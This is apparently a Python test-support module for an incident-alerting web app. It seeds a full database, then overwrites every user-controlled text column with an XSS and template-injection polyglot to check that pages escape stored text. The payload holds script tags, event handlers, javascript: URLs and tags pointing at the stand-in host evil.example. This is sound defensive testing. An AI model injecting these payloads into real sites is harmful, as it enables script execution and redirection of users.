"""A house full of attackers: every text that is stored, as far as it is anybody's to choose, tries to become markup.

The texts are written into the database itself, so that no check at the door hides a template that would not hold.
"""

import json
import re
from typing import Any

import msgspec
from litestar.routes import HTTPRoute

from openalert.app import OpenAlert
from openalert.domain import action, link
from openalert.domain.access import SYSTEM, Actor, Role
from openalert.domain.escalation import Target, TargetType
from openalert.domain.ids import new_id
from openalert.domain.mapping import Mapping
from openalert.domain.matching import Matcher
from openalert.domain.outgoing_webhook import OutgoingAttempt
from openalert.domain.routing import Actions, AllOf, HasTag, LabelFits, RuleBody, TextFits
from openalert.domain.second_factor import Passkey
from openalert.domain.service import IntegrationConfig
from openalert.domain.slo import Miss, Objective
from openalert.domain.status_page import ComponentStatus, PublicStatus, Theme
from openalert.domain.status_subscriber import MailingKind, SubscriberKind
from openalert.domain.switch_proof import switch_of
from openalert.storage import outgoing_deliveries as stored_deliveries
from openalert.storage import passkeys, slo
from openalert.storage import password_resets as stored_resets
from openalert.storage.transaction import Reader, Transaction
from openalert.usecases import (
    api_keys,
    beats,
    calendars,
    channels,
    contact_methods,
    dry_runs,
    handoff_notes,
    heartbeats,
    incidents,
    integrations,
    invitations,
    links,
    maintenance_windows,
    outgoing_deliveries,
    outgoing_webhooks,
    overrides,
    password_resets,
    postmortems,
    presets,
    responders,
    routing_rules,
    saved_views,
    setup,
    signin,
    silences,
    status_components,
    status_incidents,
    status_mailings,
    status_pages,
    status_postmortems,
    status_subscribers,
    status_templates,
    swaps,
    switch_proofs,
    users,
)
from openalert.usecases.heartbeat_alerts import Told
from openalert.usecases.status_subscribers import Choice
from openalert.usecases.status_targets import hook
from tests import make

NODE = "data-xss"
"""The attribute that every injected node would carry."""
PAYLOAD = (
    f'xss{{{{7*7}}}}xss ${{7*7}} #{{7*7}} <%= 7*7 %> " {NODE}=1 onfocus=alert(1) autofocus x=" '
    f"' {NODE}=1 onload=alert(1) x=' "
    f"--></title></textarea></script></style></option></select><img {NODE}=1 src=x onerror=alert(1)>"
    f"<svg {NODE}=1 onload=alert(1)><a {NODE}=1 xlink:href=javascript:alert(1)><script {NODE}=1>alert(1)</script>"
    f"<iframe {NODE}=1 srcdoc='<script>parent.alert(1)</script>'></iframe><form {NODE}=1 action=//evil.example>"
    f"<div {NODE}=1 hx-get=//evil.example hx-trigger=load hx-on:click=alert(1)></div>"
    f"<base {NODE}=1 href=//evil.example><meta {NODE}=1 http-equiv=refresh content='0;url=//evil.example'>"
    f"<link {NODE}=1 rel=stylesheet href=//evil.example>"
    f"<math><mtext></form><form><mglyph><svg><mtext><style><path {NODE}=1 id='</style><img {NODE}=1 src=x>'>"
    f'\\";alert(1);// javascript:alert(1) \u202e\u2066\u200b\ufeff &lt;img {NODE}=1&gt; %3Cimg%20{NODE}=1%3E'
)
URL = f"javascript:alert(1)//{PAYLOAD}"

OURS = re.compile(
    r"id|.*_id|.*hash|.*_key|key|key_.*|status|phase|severity|kind|.*_kind|type|.*_type|role|method|purpose|channel|timezone|"
    r"act|code|sealed|version|versions|scopes?|outcome|dialect|slug|verb|run|claimed_by|"
    r"email|trace_id|issuer|subject|tenant|public_key|challenge|second_factor|secret|target|"
    r"escalation_state|state|standing|body_encoding|grouping|noise|began|levels|teams|fingerprint|"
    r"drills|counts|digest|etag|period|recurrence|cron|severities|impact|automation|automatic_status|language|"
    r"ending|failed_at"
)
"""Columns that hold words of ours, ids, hashes, or what is looked things up by; all others are an attacker's."""
OUR_COLUMNS = {"backup_jobs.name", "slo_days.objective", "slo_misses.objective", "switch_proofs.switch"}
"""Of those whose name says otherwise."""
OUR_TABLES = re.compile(
    r"schema_migrations|counters|settings|runs|audit_head|audit_log|sqlite_.*|kept_answers|throttles"
)
"""Tables without words of people; the audit log keeps what acts of hostile names wrote into it."""
OUR_MEMBERS = re.compile(
    r"id|.*Id|.*_id|status|severity|kind|type|role|verb|outcome|act|from|to|was|phase|channel|field|operator|place|is_now"
)
"""Members of stored documents that hold words of ours."""


RULE = RuleBody(
    condition=AllOf(
        conditions=(LabelFits(name="env", value="prod"), TextFits(value="disk"), HasTag(values=("a",)))
    ),
    actions=Actions(tags=("night",)),
)
"""A rule whose every text is somebody's."""


class Seeded(msgspec.Struct):
    """What is in the house: the owner's session, the key of an integration, and ids by the names that routes use."""

    session: str
    key: str
    ids: dict[str, list[str]]


async def settle(openalert: OpenAlert) -> Seeded:
    """A team with everything a team can have, before it turns hostile."""
    async with openalert.database.transaction() as tx:
        await setup.ensure_organization(tx, "Acme")
        ana = await users.create(tx, email="ana@example.org", name="Ana", role=Role.OWNER)
        bea = await users.create(tx, email="bea@example.org", name="Bea")
        made = await presets.apply(
            tx, "one_team_weekly", team_name="Core", service_name="Shop", member_ids=[ana.id, bea.id], timezone="UTC"
        )  # fmt: skip
        session = await signin.open_session(tx, ana.id, address="", user_agent="")
        await signin.open_session(tx, ana.id, address="192.0.2.1", user_agent="Mozilla")
        await api_keys.create(tx, name="key")
        for kind, config in (
            ("webhook", {"url": "https://a.example/x"}),
            ("email", {"address": "a@example.org"}),
        ):
            await channels.create(tx, team_id=made.team.id, name=kind, kind=kind, config=config)
    async with openalert.database.transaction(make.actor(ana, made.team)) as tx:
        await contact_methods.create(tx, ana.id, kind="email", address="ana2@example.org")
        await invitations.create(tx, email="kim@example.org", name="Kim", by_mail=True)
        await password_resets.send(tx, bea.id, by_mail=True)
        passkey = Passkey(
            id=new_id(tx.now), user_id=ana.id, credential_id="x", public_key="", sign_count=0, name="laptop",
            created_at=tx.now,
        )  # fmt: skip
        await passkeys.insert(tx, passkey)
        await overrides.add(
            tx,
            made.schedules[0].id,
            user_id=bea.id,
            start_at=tx.now,
            end_at=tx.now + 3_600_000,
            reason="dentist",
        )
        heartbeat, _ = await heartbeats.create(tx, service_id=made.service.id, name="backup")
        await beats.hear(tx, heartbeat, Told(body="41 GB"))
        await heartbeats.create(tx, service_id=made.service.id, name="report")
        await _tell(tx, made.team.id)
        mapping = Mapping(title="name", labels={"host": "host.name"}, links={"Graph": "graph"})
        integration = (await integrations.page(tx, tx.actor, limit=1))[0]
        await integrations.update(tx, integration.id, config=IntegrationConfig(mapping=mapping))
        await routing_rules.create(tx, team_id=made.team.id, name="night", body=RULE)
        rules = await dry_runs.draft(tx, tx.actor, team_id=made.team.id)
        await switch_proofs.begin(tx, switch_of(openalert.config.self_monitor.url), 60)
        await slo.keep(
            tx,
            Miss(
                id=new_id(tx.now),
                objective=Objective.PAGES,
                organization_id=ana.organization_id,
                incident_id=await tx.value("SELECT min(id) FROM incidents"),
                due_at=tx.now,
                done_at=None,
                what="Page by SMS",
                reason="A provider said something.",
            ),
        )
    await dry_runs.RUNS.begin(openalert.database, rules)
    await make.calendar_feed(openalert.database, ana)
    async with openalert.database.transaction(make.actor(ana, made.team)) as tx:
        await saved_views.create(tx, name="Storage", query="q=disk", team_id=made.team.id)
        await calendars.create_link(tx, name="phone", schedule_id=made.schedules[0].id, with_gaps=True)
        turn = {"start_at": tx.now + 600_000, "end_at": tx.now + 1_200_000}
        await handoff_notes.write(tx, made.schedules[0].id, "Watch the disk")
        await swaps.offer(tx, made.schedules[0].id, user_id=bea.id, note="dentist", **turn)
        window = {"starts_at": tx.now, "ends_at": tx.now + 3_600_000, "name": "upgrade"}
        matchers = (Matcher(name="host", value="nothing"),)
        await maintenance_windows.create(tx, team_id=made.team.id, matchers=matchers, **window)
        await silences.create(
            tx, team_id=made.team.id, matchers=matchers, comment="known", ends_at=tx.now + 3_600_000
        )
        webhook, _ = await outgoing_webhooks.create(
            tx,
            outgoing_webhooks.Wish(
                name="tickets",
                url="https://a.example/x",
                headers={"X-Team": "core", "X-Token": "secret"},
                matchers=['host="nothing"'],
                service_ids=[made.service.id],
            ),
        )
        delivery = await outgoing_deliveries.send_test(tx, webhook.id)
        await stored_deliveries.note(
            tx,
            OutgoingAttempt(
                id=new_id(tx.now), delivery_id=delivery.id, at=tx.now, duration_ms=7, outcome="refused",
                status_code=400, detail="no",
            ),
        )  # fmt: skip
    await make.identity(openalert.database, ana, "ana at the provider")
    await make.identity(openalert.database, bea, "bea at the provider")
    await make.link_request(openalert.database, bea, "somebody at the provider")
    return Seeded(session=session, key=made.key, ids={})


async def _tell(tx: Transaction, team_id: str) -> None:
    """A status page with everything that a page can have, an incident that is told, and a draft."""
    page = await status_pages.create(
        tx,
        team_id=team_id,
        name="Acme",
        description="How we are",
        header_text="Hello",
        footer_text="Goodbye",
        logo_url="https://acme.example/logo.png",
        support_url="https://acme.example/help",
        theme=Theme(accent="#4f46e5"),
    )
    group = await status_components.add_group(tx, page.id, name="Europe")
    api = await status_components.add_component(
        tx,
        page.id,
        name="API",
        description="All of it",
        link_url="https://acme.example/api",
        group_id=group.id,
    )
    told = await status_incidents.create(
        tx,
        page.id,
        title="Slow",
        message="We look.",
        components={api.id: ComponentStatus.PARTIAL_OUTAGE},
    )
    await status_postmortems.publish(tx, told.incident.id, text="It was the disk.")
    await status_incidents.change(tx, told.incident.id, postmortem_draft="It was the disk of db-3.")
    await status_templates.create(
        tx, page.id, name="Database", title="Trouble", message="We look.", components={api.id: None}
    )
    await status_incidents.post(
        tx, told.incident.id, status=PublicStatus.MONITORING, message="Better?", is_draft=True
    )
    target = hook(SubscriberKind.WEBHOOK, "https://reader.example/hook", "ops@reader.example")
    choice = Choice(component_ids=(api.id,))
    reader = await status_subscribers.add(tx, page.id, target=target, choice=choice, is_confirmed=True)
    await status_mailings.write_to(tx, reader.subscriber, MailingKind.REMINDER)


def alert(name: str) -> dict[str, Any]:
    """An alert all of whose texts are hostile."""
    return {
        "status": "firing",
        "labels": {"alertname": name, "severity": "critical", "instance": PAYLOAD, "xss": PAYLOAD},
        "annotations": {"summary": PAYLOAD, "description": PAYLOAD, "runbook_url": URL, "dashboard": URL},
        "startsAt": "2026-01-01T00:00:00Z",
        "endsAt": "0001-01-01T00:00:00Z",
        "generatorURL": URL,
    }


async def act(openalert: OpenAlert, actor: Actor) -> None:
    """Every act on an incident, by somebody whose name is hostile, so that timelines and audit log have it."""
    async with openalert.database.transaction(actor) as tx:
        ids = [row[0] for row in await tx.rows("SELECT id FROM incidents ORDER BY number")]
        people = [row[0] for row in await tx.rows("SELECT id FROM users ORDER BY id LIMIT 3")]
        helpers = [Target(type=TargetType.USER, id=each) for each in people]
        for number, incident_id in enumerate(ids):
            await incidents.acknowledge(tx, incident_id)
            await incidents.note(tx, incident_id, body=PAYLOAD)
            await postmortems.write(tx, incident_id, body=PAYLOAD)
            await responders.ask(tx, incident_id, targets=helpers, message=PAYLOAD[:200])
            if number:
                await incidents.resolve(tx, incident_id, resolution=PAYLOAD)


async def poison(tx: Transaction) -> list[str]:
    """Write the payload into every column that is not ours; their names."""
    done = []
    tables = [row[0] for row in await tx.rows("SELECT name FROM sqlite_master WHERE type = 'table'")]
    for table in tables:
        if OUR_TABLES.fullmatch(table):
            continue
        for column, kind in await tx.rows("SELECT name, type FROM pragma_table_info(:table)", table=table):
            is_ours = OURS.fullmatch(column) or f"{table}.{column}" in OUR_COLUMNS
            if kind == "TEXT" and not is_ours:
                await _poison_column(tx, table, column)
                done.append(f"{table}.{column}")
    return done


async def _poison_column(tx: Transaction, table: str, column: str) -> None:
    """Plain texts become the payload and a number, documents keep their shape."""
    for number, value in await tx.rows(f"SELECT rowid, {column} FROM {table} WHERE {column} IS NOT NULL"):
        changed = _poisoned(str(value), number, is_address="url" in column or column == "address")
        await tx.execute(
            f"UPDATE {table} SET {column} = :changed WHERE rowid = :number", changed=changed, number=number
        )


def _poisoned(value: str, number: int, *, is_address: bool) -> str:
    if value.startswith(("[", "{")):
        return json.dumps(_leaves(json.loads(value), ""))
    return f"{URL if is_address else PAYLOAD} {number}"


def _leaves(value: Any, name: str) -> Any:
    """The document with every text of a stranger replaced."""
    if isinstance(value, dict):
        return {
            key: member if OUR_MEMBERS.fullmatch(key) else _leaves(member, key)
            for key, member in value.items()
        }
    if isinstance(value, list):
        return [_leaves(member, name) for member in value]
    if isinstance(value, str):
        return URL if name in ("href", "url") else PAYLOAD
    return value


async def ids_for_routes(reader: Reader, openalert: OpenAlert) -> dict[str, list[str]]:
    """What to put into the path parameters of pages, by their names."""
    tables = {
        "incident_id": "incidents", "alert_id": "alerts", "service_id": "services", "schedule_id": "schedules",
        "rotation_id": "rotations", "policy_id": "escalation_policies", "team_id": "teams", "user_id": "users",
        "window_id": "maintenance_windows", "silence_id": "silences", "heartbeat_id": "heartbeats",
        "webhook_id": "outgoing_webhooks", "delivery_id": "outgoing_deliveries",
        "integration_id": "integrations", "payload_id": "payloads",
        "routing_rule_id": "routing_rules",
        "page_id": "status_pages", "component_id": "status_components", "group_id": "status_groups",
        "status_incident_id": "status_incidents", "update_id": "status_updates",
        "subscriber_id": "status_subscribers",
        "status_template_id": "status_templates",
    }  # fmt: skip
    found = {}
    for name, table in tables.items():
        found[name] = [row[0] for row in await reader.rows(f"SELECT id FROM {table} ORDER BY id LIMIT 3")]
        assert found[name], f"nothing in {table}"
    secret: bytes = openalert.asgi.app.state.secret  # type: ignore[attr-defined]  # a Litestar
    signed = action.sign(
        secret, found["incident_id"][0], found["user_id"][0], action.Verb.RESOLVE, reader.now
    )
    found["dry_run_id"] = [next(reversed(dry_runs.RUNS._runs))]
    return found | {"token": [signed, "unknown", *await _links(reader, secret)]}


async def _links(reader: Reader, secret: bytes) -> list[str]:
    """The tokens of an invitation and of a link to a new password, as good as when they were sent."""
    [invitation] = await invitations.page(reader, SYSTEM, limit=1)
    reset = await stored_resets.get(reader, str(await reader.value("SELECT id FROM password_resets")))
    assert reset is not None
    user = await users.get(reader, SYSTEM, reset.user_id)
    return [
        link.sign(secret, each) for each in (links.of_invitation(invitation), links.of_reset(reset, user))
    ]


def page_paths(openalert: OpenAlert, ids: dict[str, list[str]]) -> list[str]:
    """Every address at which a page may be looked at; a route with a parameter nobody can fill is an error.

    Exports are files, which a browser keeps and does not show.
    """
    machines = ("/api", "/health", "/ready", "/metrics", "/webhooks", "/static")
    litestar = openalert.asgi.app
    templates = [
        route.path_format
        for route in litestar.routes  # type: ignore[attr-defined]  # the middleware knows it as any ASGI application
        if isinstance(route, HTTPRoute)
        and "GET" in route.methods
        and not route.path_format.startswith(machines)
        and not route.path_format.endswith("/export")
    ]
    paths = [path for template in templates for path in _filled(template, ids)]
    return sorted(paths)


def _filled(template: str, ids: dict[str, list[str]]) -> list[str]:
    names = re.findall(r"\{(\w+)\}", template)
    paths = [template]
    for name in names:
        assert name in ids, f"say in ids_for_routes what {name} of {template} can be"
        paths = [path.replace("{" + name + "}", value) for path in paths for value in ids[name]]
    return paths
